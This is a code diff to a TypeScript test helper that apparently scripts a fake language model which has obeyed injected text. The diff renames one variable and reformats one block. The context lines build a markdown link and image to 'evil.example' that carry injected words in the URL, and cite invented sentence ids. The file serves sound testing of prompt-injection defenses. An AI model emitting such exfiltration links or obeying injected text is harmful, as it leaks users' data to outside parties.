@@ -8,9 +8,9 @@ import { kindOf, read } from './scripted-model.ts';
 export function obeying(words: readonly string[], said: string): (asked: Asked) => Answer {
   return (asked) => {
     const { offered, lines } = read(asked);
-    const told = words.join(' ');
+    const wording = words.join(' ');
     const link = `[more](https://evil.example/?q=${words[0]}) ![x](https://evil.example/x.png)`;
-    const text = `${said} ${told} ${link}`;
+    const text = `${said} ${wording} ${link}`;
     const ids = [...offered.slice(0, 2), 's999', 'p999'];
     const repeated = (word: string) => said.replace(/.$/u, ` ${word}.`);
     const each = [
@@ -35,7 +35,7 @@ export function obeying(words: readonly string[], said: string): (asked: Asked) 
       case 'themes':
         return json({
           themes: [
-            { name: told, text, notes: offered },
+            { name: wording, text, notes: offered },
             ...words.map((name) => ({ name, text: name, notes: offered })),
           ],
           questions: [...words.map((word) => `${said.slice(0, -1)} ${word}`), ...echoed].map((one) => ({
@@ -44,18 +44,20 @@ export function obeying(words: readonly string[], said: string): (asked: Asked) 
         });
       case 'insights':
         return json({
-          insights: [...each.toReversed(), { text: told, sentences: ids }].map(({ text: title, sentences: ids }) => ({
-            ...{
-              title,
-              titleSentences: ids,
-              summary: [
-                { text: title, sentences: ids },
-                { text, sentences: ids },
-              ],
-              why: [{ text: title, sentences: ids }],
-            },
-            ...{ support: [], keywords: [...words], theme: told },
-          })),
+          insights: [...each.toReversed(), { text: wording, sentences: ids }].map(
+            ({ text: title, sentences: ids }) => ({
+              ...{
+                title,
+                titleSentences: ids,
+                summary: [
+                  { text: title, sentences: ids },
+                  { text, sentences: ids },
+                ],
+                why: [{ text: title, sentences: ids }],
+              },
+              ...{ support: [], keywords: [...words], theme: wording },
+            }),
+          ),
         });
       case 'against':
         return json({ claims: [{ claim: 'c1', against: [...offered, 's999'] }] });
